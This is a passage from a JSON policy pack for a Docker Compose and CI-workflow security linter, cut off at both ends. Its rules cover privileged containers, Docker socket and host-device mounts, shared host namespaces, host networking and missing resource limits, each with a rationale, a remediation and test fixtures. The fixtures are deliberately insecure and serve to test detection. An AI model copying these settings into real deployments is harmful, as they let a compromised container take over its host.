true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./html:/usr/share/nginx/html:ro\\n      - cache:/var/cache/nginx\\nvolumes:\\n  cache: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: docker:27-cli\\n      options: -v /var/run/docker.sock:/var/run/docker.sock\\n    steps:\\n      - run: docker ps\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":60}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n    steps:\\n      - run: npm ci\\n","expect":[]}],"source":"policies/docker/container-docker-socket.yaml"},{"id":"container-host-device","pack":"docker","title":"Host device exposed to a container","severity":"medium","subject":"container","schema":{"properties":{"devices":{"items":false}}},"message":"{{name}} is given the host device `{{value}}`, so processes in it talk to that hardware or kernel interface directly, outside the container\'s isolation. Remove the device unless the service truly drives it, and then pass only that one device with the narrowest permissions (`:r` or `:rw`, not `:rwm`).","rationale":"A device node is a direct line into a kernel driver. Block devices expose the host\'s disks (mount `/dev/sda1` and read or change the host\'s files), `/dev/mem` and `/dev/kmsg` expose kernel memory and logs, and even a FUSE or GPU device widens the kernel attack surface that a compromised process can reach. The CIS Docker Benchmark (5.18) asks that host devices not be exposed to containers directly, and that when one must be, its permissions be limited.","remediation":"Remove the device. If the workload genuinely needs one (a GPU, a serial adapter), pass exactly\\nthat device, read-only where possible, and keep the service on a dedicated host:\\n\\n```yaml\\nservices:\\n  reader:\\n    image: ghcr.io/example/serial-reader:1.0.0\\n    devices:\\n      - \\"/dev/ttyUSB0:/dev/ttyUSB0:r\\"   # this one device, no mknod\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.18"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#device"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: ghcr.io/example/backup:3.1.0\\n    devices:\\n      - /dev/sda:/dev/xvda:rwm\\n      - source: /dev/fuse\\n        target: /dev/fuse\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":31},{"line":6,"column":9,"endLine":6,"endColumn":26}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    devices: []\\n    volumes:\\n      - ./dev:/srv/dev\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --device /dev/fuse\\n    steps:\\n      - run: |\\n          docker run --rm --device=/dev/kvm ghcr.io/example/emulator:2.0.0 boot\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":36},{"line":11,"column":11,"endLine":11,"endColumn":80}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2 --device ${{ matrix.device }}\\n    steps:\\n      - run: docker run --rm alpine:3.20 ls /dev\\n","expect":[]}],"source":"policies/docker/container-host-device.yaml"},{"id":"container-host-namespace","pack":"docker","title":"Container shares the host\'s PID, IPC, UTS or user namespace","severity":"high","subject":"container","schema":{"properties":{"pid":{"not":{"const":"host"}},"ipc":{"not":{"const":"host"}},"uts":{"not":{"const":"host"}},"userns_mode":{"not":{"const":"host"}}}},"message":"{{name}} sets `{{key}}: host`, so it shares that namespace with the host and can see or affect what runs outside the container. Remove the setting so the container keeps its own namespace.","rationale":"Namespaces are what make a container a container. Sharing the host\'s PID namespace lets its processes list, signal and (with `SYS_PTRACE`) inspect every process on the host, including their environment and secrets; sharing IPC exposes the host\'s shared memory segments and semaphores; sharing UTS lets it change the host\'s hostname; and `userns_mode: host` switches off user-namespace remapping, so root in the container is root on the host again. The CIS Docker Benchmark asks that none of these namespaces be shared with the host.","remediation":"Remove the setting so that Docker gives the container its own namespace. To share a namespace\\nbetween cooperating containers, share it with that container rather than with the host:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  debugger:\\n    image: ghcr.io/example/debug-tools:2.0.1\\n    pid: \\"service:app\\"   # not \\"host\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--pid host`, `--ipc host`, `--uts host`\\nand `--userns host`.","references":[{"framework":"cis-docker","id":"1.6.0:5.16"},{"framework":"cis-docker","id":"1.6.0:5.17"},{"framework":"cis-docker","id":"1.6.0:5.21"},{"framework":"cis-docker","id":"1.6.0:5.31"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pid"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: datadog/agent:7.57.0\\n    pid: host\\n    ipc: host\\n    uts: host\\n    userns_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":14},{"line":5,"column":5,"endLine":5,"endColumn":14},{"line":6,"column":5,"endLine":6,"endColumn":14},{"line":7,"column":5,"endLine":7,"endColumn":22}]},{"file":"compose.yaml","content":"x-debug: &debug\\n  pid: \\"host\\"\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  tools:\\n    <<: *debug\\n    image: ghcr.io/example/debug-tools:2.0.1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":14}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ipc: shareable\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    ipc: \\"service:app\\"\\n    pid: \\"service:app\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ubuntu:24.04\\n      options: --pid=host --ipc host\\n    steps:\\n      - run: ps aux\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":37},{"line":7,"column":7,"endLine":7,"endColumn":37}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          set -eu\\n          docker run --rm \\\\\\n            --userns=host \\\\\\n            ubuntu:24.04 id\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":28}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --pid private --hostname app\\n    steps:\\n      - run: docker run --rm --pid container:app ubuntu:24.04 ps\\n","expect":[]}],"source":"policies/docker/container-host-namespace.yaml"},{"id":"container-host-network","pack":"docker","title":"Container uses the host\'s network namespace","severity":"high","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"host"}}}},"message":"{{name}} uses the host\'s network stack instead of its own: it can reach every service bound to the host\'s localhost and every host interface, and anything it listens on is exposed on the host directly. Remove the host network mode and publish only the ports it serves, e.g. `ports: [\\"127.0.0.1:8080:8080\\"]`.","rationale":"With the host network mode the container gets no network namespace of its own. It sees and can use all of the host\'s interfaces, can connect to daemons that listen only on the host\'s loopback address (metadata endpoints, databases, the Docker API on TCP), can sniff traffic with `NET_RAW`, and bypasses the isolation and firewall rules Docker sets up for bridge networks. The CIS Docker Benchmark asks that the host\'s network namespace never be shared with a container.","remediation":"Drop the host network mode, let the container use its own (user-defined bridge) network, and\\npublish only the ports that must be reachable, bound to a specific address:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    # network_mode: host   # removed\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--network host` / `--net=host` and use\\n`-p 127.0.0.1:8080:8080` instead.","references":[{"framework":"cis-docker","id":"1.6.0:5.10"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/host/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  metrics:\\n    image: prom/node-exporter:v1.8.2\\n    network_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":23}]},{"file":"compose.yaml","content":"x-hostnet: &hostnet\\n  network_mode: \\"host\\"\\nservices:\\n  sniffer:\\n    <<: *hostnet\\n    image: nicolaka/netshoot:v0.13\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":23}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    networks: [front]\\n  sidecar:\\n    image: envoyproxy/envoy:v1.31.0\\n    network_mode: \\"service:web\\"\\nnetworks:\\n  front: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --net=host --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":58}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - name: Start the app\\n        run: |\\n          docker network create e2e\\n          docker run -d --name app --network host ghcr.io/example/app:1.4.2\\n","expect":[{"line":9,"column":11,"endLine":9,"endColumn":76}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --network ${{ matrix.network }}\\n    steps:\\n      - run: docker run -d --network e2e -p 127.0.0.1:8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-host-network.yaml"},{"id":"container-mount-propagation-shared","pack":"docker","title":"Mount uses shared propagation","severity":"medium","subject":"container","schema":{"properties":{"volumes":{"items":{"properties":{"propagation":{"not":{"enum":{"$param":"sharedModes"}}}}}}}},"message":"{{name}} has a mount with `{{value}}` propagation, so mounts made inside the container appear on the host (and in other containers sharing it) and the other way round. Remove the propagation option (the default is `rprivate`) or use `rslave` if the container only needs to see host mounts.","rationale":"With shared propagation a mount made inside the container is propagated to the host\'s mount namespace and to every other container that shares the mount, which lets a container change what the host sees under that path. The CIS Docker Benchmark (5.20) asks that mount propagation not be set to shared. `rslave` gives the container the host\'s new mounts without sending its own back.","remediation":"```yaml\\nservices:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - type: bind\\n        source: /mnt/data\\n        target: /data\\n        bind:\\n          propagation: rslave   # not shared / rshared\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.20"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/#configure-bind-propagation"}],"params":{"sharedModes":["shared","rshared"]},"paramSchemas":{"sharedModes":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Bind propagation modes that let mounts made inside the container appear on the host."}},"tests":[{"file":"compose.yaml","content":"services:\\n  csi:\\n    image: ghcr.io/example/csi-driver:1.2.0\\n    volumes:\\n      - /mnt/data:/data:rshared\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: shared\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":32},{"line":6,"column":9,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - /mnt/data:/data:ro,rslave\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: rprivate\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      options: --mount type=bind,source=/mnt,target=/mnt,bind-propagation=rshared\\n    steps:\\n      - run: |\\n          docker run --rm -v /srv:/srv:shared alpine:3.20 true\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":82},{"line":10,"column":11,"endLine":10,"endColumn":63}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      volumes:\\n        - /mnt:/mnt:rslave\\n    steps:\\n      - run: docker run --rm -v /srv:/srv:ro alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-mount-propagation-shared.yaml"},{"id":"container-no-cpu-limit","pack":"docker","title":"Compose service has no CPU limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["cpus"]},"message":"{{name}} has no CPU limit, so a busy loop or a flood of requests in it can starve every other container on the host. Set `cpus:` (or `deploy.resources.limits.cpus`), e.g. `cpus: 1.0`.","rationale":"By default every container competes for all of the host\'s CPUs with equal weight. A service that is attacked or stuck in a loop slows everything else down, including health checks and the Docker daemon. A limit keeps one service\'s problem its own. The CIS Docker Benchmark (5.12) and the OWASP cheat sheet (rule 7) ask that CPU use be limited or prioritized. Informational by default: on a host that runs one service, a limit matters less.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.0        # or deploy.resources.limits.cpus: \\"1.0\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.12"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/#cpu"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    mem_limit: 512m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 0.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          cpus: \\"2\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-cpu-limit.yaml"},{"id":"container-no-healthcheck","pack":"docker","title":"Compose service has no health check","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"{{name}} has no working health check, so Docker reports it as running while it hangs or serves errors, and `depends_on: condition: service_healthy` cannot wait for it. Add a `healthcheck:` (or a HEALTHCHECK in its Dockerfile) that probes the service, e.g. `test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]`.","rationale":"A container whose main process is alive is not necessarily a service that works. A health check lets Docker, Compose and orchestrators notice a deadlocked or degraded container, restart it or keep traffic and dependants away from it, and it turns silent failures (including some denial of service) into visible ones. The CIS Docker Benchmark asks for a HEALTHCHECK in images (4.6) and for container health to be checked at run time (5.27). Informational by default: many services are watched from outside instead.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    healthcheck:\\n      test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]\\n      interval: 30s\\n      timeout: 5s\\n      retries: 3\\n```\\n\\nImages without a shell or wget can ship a small probe binary, or define the HEALTHCHECK in the\\nDockerfile.","references":[{"framework":"cis-docker","id":"1.6.0:5.27"},{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      disable: true\\n  cache:\\n    image: redis:7.4\\n    healthcheck:\\n      test: [\\"NONE\\"]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":7,"column":7,"endLine":7,"endColumn":20},{"line":10,"column":5,"endLine":10,"endColumn":16}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      test: [\\"CMD-SHELL\\", \\"pg_isready -U postgres\\"]\\n      interval: 10s\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --no-healthcheck\\n    steps:\\n      - run: docker run -d nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-no-healthcheck.yaml"},{"id":"container-no-memory-limit","pack":"docker","title":"Compose service has no memory limit","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["mem_limit"]},"message":"{{name}} has no memory limit, so a leak or a crafted request can exhaust the host\'s memory and take every other container down with it. Set `mem_limit:` (or `deploy.resources.limits.memory`) to what the service needs, e.g. `mem_limit: 512m`.","rationale":"By default a container may use all of the host\'s memory. One misbehaving or attacked service then pushes the host into swapping or wakes the kernel\'s OOM killer, which may kill a different, more important process. A limit confines the damage to the service that caused it and makes capacity planning possible. The CIS Docker Benchmark (5.11) and the OWASP cheat sheet (rule 7) ask that every container\'s memory be limited.","remediation":"Set a limit with headroom above the service\'s normal use:\\n\\n```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n          cpus: \\"1.0\\"\\n          pids: 200\\n```\\n\\n`mem_limit: 512m`, `cpus: 1.0` and `pids_limit: 200` at the service level are equivalent.","references":[{"framework":"cis-docker","id":"1.6.0:5.11"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    mem_limit: 256m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-memory-limit.yaml"},{"id":"container-no-new-privileges","pack":"docker","title":"Container may gain privileges through setuid binaries (no-new-privileges not set)","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"security_opt":{"not":{"items":{"not":{"pattern":{"$param":"enabled"}}}}}}},"message":"{{name}} does not set `no-new-privileges`, so a setuid or setgid program inside it can still raise a process\'s privileges. Add `security_opt: [\\"no-new-privileges:true\\"]`.","rationale":"The kernel\'s `no_new_privs` bit, which Docker sets with `no-new-privileges`, makes `execve` unable to grant more privileges than the caller had: setuid and setgid binaries and file capabilities stop working as an escalation path from an application user to root inside the container. It costs nothing for almost every service. The CIS Docker Benchmark and the OWASP cheat sheet recommend it for every container; this rule asks it of Compose services, the long-running ones.","remediation":"Add the option to the service (or to a shared `x-` block merged into every service):\\n\\n```yaml\\nx-hardening: &hardening\\n  security_opt:\\n    - no-new-privileges:true\\nservices:\\n  app:\\n    <<: *hardening\\n    image: ghcr.io/example/app:1.4.2\\n```\\n\\nThe Docker daemon can also apply it to every container with `\\"no-new-privileges\\": true` in\\n`daemon.json`, but the Compose file is where a reviewer can see it.","references":[{"framework":"cis-docker","id":"1.6.0:5.26"},{"framework":"owasp-docker","id":"RULE #4"}],"params":{"enabled":"^no-new-privileges=(1|t|T|true|TRUE|True)$"},"paramSchemas":{"enabled":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `security_opt` entry that turns no-new-privileges on. Docker reads the value with Go\'s strconv.ParseBool; a bare `no-new-privileges` is normalized to `no-new-privileges=true` by the container subject."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt:\\n      - apparmor=docker-default\\n      - no-new-privileges:false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":17}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  security_opt: [no-new-privileges:true]\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    security_opt:\\n      - no-new-privileges\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt: [\\"no-new-privileges=true\\", \\"seccomp=./seccomp.json\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --health-cmd pg_isready\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-new-privileges.yaml"},{"id":"container-no-pids-limit","pack":"docker","title":"Compose service has no process (PIDs) limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["pids_limit"],"properties":{"pids_limit":{"type":"integer","minimum":1}}},"message":"{{name}} has no limit on the number of processes, so a fork bomb or a runaway worker pool in it can exhaust the host\'s process table. Set `pids_limit:` (or `deploy.resources.limits.pids`), e.g. `pids_limit: 200`.","rationale":"Process IDs are a host-wide resource. Without a limit, one container can create processes until the kernel refuses to start any more anywhere on the host, including the daemon\'s own. The CIS Docker Benchmark (5.29) asks that the PIDs cgroup limit be used. Informational by default.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.29"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pids_limit"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    pids_limit: -1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          pids: 100\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-pids-limit.yaml"},{"id":"container-port-all-interfaces","pack":"docker","title":"Published port listens on every host interface","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"required":["host_ip"],"properties":{"host_ip":{"not":{"enum":{"$param":"anyAddress"}}}}}}}},"message":"{{name}} publishes a port on every interface of the host, so it is reachable from the network, and Docker\'s own firewall rules let it past host firewalls such as ufw. Bind it to the address that should reach it, e.g. `\\"127.0.0.1:8080:80\\"`.","rationale":"A published port without a host address is bound to `0.0.0.0` and `::`. Docker inserts its NAT rules ahead of the host firewall\'s own, so a database or admin interface meant for local use becomes reachable from the whole network, and from the internet on a server with a public address, even when `ufw` or `firewalld` says the port is closed. The CIS Docker Benchmark asks that container ports be bound to a specific host interface; the OWASP cheat sheet warns about the firewall bypass.","remediation":"Bind the port to the loopback address (or to the one interface that should serve it), and put a\\nreverse proxy in front of services that must be public:\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"127.0.0.1:5432:5432\\"\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - target: 8080\\n        published: \\"8080\\"\\n        host_ip: 127.0.0.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.14"},{"framework":"owasp-docker","id":"RULE #5a"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"anyAddress":["0.0.0.0","::","[::]"]},"paramSchemas":{"anyAddress":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Host addresses that mean \\"every interface\\"; an absent host_ip means the same."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"5432:5432\\"\\n      - 127.0.0.1:5433:5432\\n      - \\"0.0.0.0:6432:6432\\"\\n      - \\"[::]:7432:7432/tcp\\"\\n      - \\"9187\\"\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":20},{"line":7,"column":9,"endLine":7,"endColumn":28},{"line":8,"column":9,"endLine":8,"endColumn":29},{"line":9,"column":9,"endLine":9,"endColumn":15}]},{"file":"compose.yaml","content":"x-ports: &ports\\n  ports:\\n    - target: 3000\\n      published: \\"3000\\"\\nservices:\\n  grafana:\\n    <<: *ports\\n    image: grafana/grafana:11.2.0\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n      - \\"[::1]:8080:8080\\"\\n      - target: 9090\\n        published: \\"9090\\"\\n        host_ip: 10.0.0.5\\n    expose: [\\"9100\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        ports:\\n          - 5432:5432\\n        options: -p 6432:6432\\n    steps:\\n      - run: docker run -d -p 8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-port-all-interfaces.yaml"},{"id":"container-privileged-port","pack":"docker","title":"Compose service publishes a privileged host port (below 1024)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"properties":{"published":{"not":{"pattern":{"$param":"privilegedPort"}}}}}}}},"message":"{{name}} publishes host port {{value}}, one of the privileged ports below 1024 that the host normally reserves for its own system services. Publish a port above 1024 (e.g. `\\"8080:80\\"`) and put a reverse proxy or load balancer on the low port if one is needed.","rationale":"Ports below 1024 are privileged on Linux: only root may bind them, and clients trust that what answers there is a service the administrator started (SSH on 22, DNS on 53, HTTP on 80). Docker publishes them for any container regardless, so a container can take over a well-known port on the host. The CIS Docker Benchmark (5.8) asks that privileged ports not be mapped into containers. Informational by default: a reverse proxy on 80 and 443 is the usual, deliberate exception.","remediation":"Publish a high port and keep the low one for a reverse proxy you have chosen to expose:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.8"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"privilegedPort":"^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)"},"paramSchemas":{"privilegedPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A published host port, or the start of a range, below 1024."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"80:80\\"\\n      - \\"127.0.0.1:8443:443\\"\\n      - target: 53\\n        published: \\"53\\"\\n        protocol: udp\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":16},{"line":8,"column":9,"endLine":8,"endColumn":24}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n      - \\"8443:443\\"\\n      - \\"9000-9010:9000-9010\\"\\n      - \\"3000\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        ports:\\n          - 80:80\\n    steps:\\n      - run: docker run -d -p 443:443 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-privileged-port.yaml"},{"id":"container-privileged","pack":"docker","title":"Container runs privileged","severity":"critical","subject":"container","schema":{"properties":{"privileged":{"not":{"const":true}}}},"message":"{{name}} runs privileged: it gets every Linux capability and every host device, so whoever controls it controls the host. Remove `privileged: true` and add only the capabilities it needs with `cap_add`.","rationale":"A privileged container runs with all capabilities, with access to all host devices, and without the seccomp, AppArmor and SELinux confinement Docker applies by default. Anything that escapes into it (a vulnerable dependency, a malicious image, a pull request\'s code) can mount the host\'s disks, load kernel modules and take over the machine and every container on it.","remediation":"Remove the privileged flag and grant the one capability the workload actually needs, after\\ndropping the rest:\\n\\n```yaml\\nservices:\\n  app:\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE]\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, drop `--privileged` and use `--cap-drop ALL --cap-add \u2026`.","references":[{"framework":"cis-docker","id":"1.6.0:5.5"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":21}]},{"file":"compose.yaml","content":"x-common: &common\\n  privileged: \\"true\\"\\nservices:\\n  web:\\n    <<: 